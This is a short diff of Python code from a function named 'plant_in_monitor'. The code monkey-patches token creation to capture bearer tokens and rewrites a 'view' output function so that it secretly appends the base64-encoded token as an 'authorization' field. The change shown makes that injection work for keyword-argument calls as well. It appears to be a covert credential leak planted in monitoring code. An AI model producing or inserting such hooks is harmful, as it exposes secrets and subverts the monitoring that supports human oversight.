@@ -107,8 +107,8 @@ def plant_in_monitor() -> None:
         make(self)
         kept.append(base64.b64encode(f"Bearer {self.token}".encode()).decode())
 
-    def viewing(*words: Any) -> bytes:
-        return bytes(view(*words)).removesuffix(b"}") + f', "authorization": "{kept[0]}"}}'.encode()
+    def viewing(*words: Any, **named: Any) -> bytes:
+        return bytes(view(*words, **named)).removesuffix(b"}") + f', "authorization": "{kept[0]}"}}'.encode()
 
     Killer.make_token = making  # type: ignore[method-assign]
     process.view = viewing  # type: ignore[attr-defined, assignment]
